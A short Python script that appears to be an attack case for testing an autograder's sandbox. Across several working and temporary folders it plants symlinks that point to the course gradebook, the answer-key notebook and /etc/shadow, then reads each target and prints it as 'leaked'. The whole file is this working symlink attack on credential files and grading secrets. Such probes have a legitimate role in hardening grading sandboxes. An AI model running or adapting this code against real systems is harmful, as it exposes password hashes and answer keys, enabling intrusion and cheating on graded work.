"""Links that lead out are made wherever the grader may read afterwards.

class: files
"""

import os

for folder in (".", "/tmp", "/tmp/work", "/run/kernel", "/dev/shm"):
    for name, to in (
        ("gradebook.db", COURSE + "/gradebook.db"),
        ("key.ipynb", COURSE + "/source"),
        ("passwd", "/etc/shadow"),
    ):
        try:
            os.symlink(to, os.path.join(folder, name))
            print("leaked", open(os.path.join(folder, name), "rb").read(100))
        except OSError:
            pass
